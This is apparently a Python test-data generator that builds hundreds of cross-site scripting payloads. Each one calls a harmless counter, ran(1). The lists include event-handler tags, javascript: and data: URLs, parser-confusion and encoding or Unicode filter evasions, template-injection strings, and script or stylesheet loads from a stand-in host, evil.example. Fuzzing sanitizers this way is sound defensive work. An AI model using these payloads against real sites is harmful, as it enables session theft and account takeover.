"""Words that would run, were they ever taken for markup, code, style or an address: made from grammars."""

from collections.abc import Iterator
from itertools import cycle, islice, product

RUN = "ran(1)"
"""What each would do: the page of the test counts it."""

TAGS = ("img", "svg", "body", "video", "audio", "details", "input", "iframe", "marquee", "object", "math", "x", "a")
EVENTS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onpointerover", "onanimationstart", "onbegin")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    " javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "data:text/html,<script>ran(1)</script>//",
    "data:image/svg+xml,<svg/onload=ran(1)>",
    "vbscript:",
    "blob:",
    "filesystem:",
    "//evil.example/ran#",
    "https://evil.example/ran#",
    "view-source:javascript:",
)
ADDRESSES = (
    '<a href="{}">x</a>',
    "<iframe src='{}'>",
    "<form action={}><button>x",
    "<object data='{}'>",
    "<embed src={}>",
    "<svg><a xlink:href='{}'><text>x",
    "<math href='{}'>x</math>",
    "<base href='{}'>",
    "<link rel=stylesheet href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "[x]({})",
    "<{}>",
    "<button formaction='{}'>x",
    "<img src='{}'>",
)
BROKEN = (
    '"><img src=x onerror=ran(1)>',
    "'><svg onload=ran(1)>",
    "</p><script>ran(1)</script>",
    "--><script>ran(1)</script>",
    "]]><script>ran(1)</script>",
    "</title><script>ran(1)</script>",
    "</textarea><script>ran(1)</script>",
    "</style><script>ran(1)</script>",
    "</script><script>ran(1)</script>",
    "<script>ran(1)",
    "<script/src=//evil.example/ran>",
    "<script\x0c>ran(1)</script>",
    "<scr\0ipt>ran(1)</scr\0ipt>",
    "<scr<script>ipt>ran(1)</script>",
    "<<script>ran(1)//<</script>",
    "<img src=x onerror=ran(1)",
    "<img/src/onerror=ran(1)//",
    "<img src=`x`onerror=ran(1)>",
    "<!--<img src='--><img src=x onerror=ran(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
    "<template><img src=x onerror=ran(1)></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran(1)&gt;'>",
    "<svg><script>ran&#40;1)</script>",
    "<svg><style><img src=x onerror=ran(1)></style>",
    "<svg><animate onbegin=ran(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:ran(1)>",
    "<svg><foreignObject><body onload=ran(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran(1)>#x'>",
    "<style>@import'//evil.example/ran'</style>",
    "<p style='background:url(//evil.example/ran)'>",
    "<p style=animation-name:x onanimationstart=ran(1)>",
    "{{constructor.constructor('ran(1)')()}}",
    "${ran(1)}",
    "#{ran(1)}",
    "<%= ran(1) %>",
    "{%raw%}{{ran(1)}}",
    "{ran(1)}",
    "[[ran(1)]]",
    "`${ran(1)}`",
    "{@html '<img src=x onerror=ran(1)>'}",
    "{name, select, other {<script>ran(1)</script>}}",
    "{0}",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "&lt;script&gt;ran(1)&lt;/script&gt;",
    "&#60;img src=x onerror=ran(1)&#62;",
    "&#x3c;img src=x onerror=ran(1)&#x3e;",
    "&lt;img src=x onerror=ran(1)&gt",
    "\\u003cimg src=x onerror=ran(1)\\u003e",
    "\\x3cimg src=x onerror=ran(1)\\x3e",
    "+ADw-script+AD4-ran(1)+ADw-/script+AD4-",
    "＜script＞ran(1)＜/script＞",
    "﹤img src=x onerror=ran(1)﹥",
    "‹img src=x onerror=ran(1)›",
    "<ſcript>ran(1)</ſcript>",
    "<ıframe src=javascript:ran(1)>",
    "\u202e<img src=x onerror=ran(1)>\u202c",
    "\u2066<svg onload=ran(1)>\u2069",
    "\ufeff<script>ran(1)</script>",
    "<\u200bimg src=x onerror=ran(1)>",
    "<img\u2028src=x\u2029onerror=ran(1)>",
    "<img\u00a0src=x onerror=ran(1)>",
    "<ⓢⓒⓡⓘⓟⓣ>ran(1)</ⓢⓒⓡⓘⓟⓣ>",
    "\u0000<img src=x onerror=ran(1)>",
    'https://evil.example/"onmouseover="ran(1)',
    "https://evil.example/'onfocus='ran(1)'autofocus='",
    "http://x/<script>ran(1)</script>",
    "https://evil.example/`${ran(1)}`",
    "http://javascript:ran(1)@evil.example",
    "javascript:ran(1)//https://evil.example",
    "https:javascript:ran(1)",
    "⟦1⟧<img src=x onerror=ran(1)>⟦2⟧",
    "\ue000<img src=x onerror=ran(1)>\ue001",
    "*<img src=x onerror=ran(1)>*",
    "```<script>ran(1)</script>```",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "<__proto__ onerror=ran(1)>",
    "';ran(1);//",
    '";ran(1);//',
    "\\';ran(1);//",
    "*/ran(1)/*",
)


def payloads(number: int) -> list[str]:
    """So many different ones, of each kind some."""
    kinds = [tags(), addresses(), iter(BROKEN), cased(), entities()]
    found: dict[str, None] = dict.fromkeys(BROKEN)
    for kind in islice(cycle(kinds), 50 * number):
        if len(found) == number:
            break
        found.update(dict.fromkeys(islice(kind, 1)))
    return list(found)


def tags() -> Iterator[str]:
    """Elements with an event handler, closed and not, quoted and not."""
    for tag, event, (quote, end) in product(TAGS, EVENTS, product(("", "'", '"', "`"), (">", "/>", " ", "></x>"))):
        yield f"<{tag} src=x href=x tabindex=1 autofocus {event}={quote}{RUN}{quote}{end}"


def addresses() -> Iterator[str]:
    """Addresses that are code."""
    for form, scheme in product(ADDRESSES, SCHEMES):
        yield form.format(f"{scheme}{RUN}")


def cased() -> Iterator[str]:
    """Mixed case, and what parsers take for white space."""
    for tag, event, gap in product(TAGS, EVENTS, ("/", "\t", "\n", "\x0c", "\r", "//", " / ", "\x0b")):
        mixed = "".join(letter.upper() if n % 2 else letter for n, letter in enumerate(tag + gap + event))
        yield f"<{mixed} = {RUN} {gap}src={gap}x>"


def entities() -> Iterator[str]:
    """The same, spelt with entities."""
    for tag, event, form in product(TAGS, EVENTS, ("&#{};", "&#x{:x};", "&#{:07d}", "&#X{:X};")):
        yield f"<{tag} src=x {event}={''.join(form.format(ord(letter)) for letter in RUN)}>"
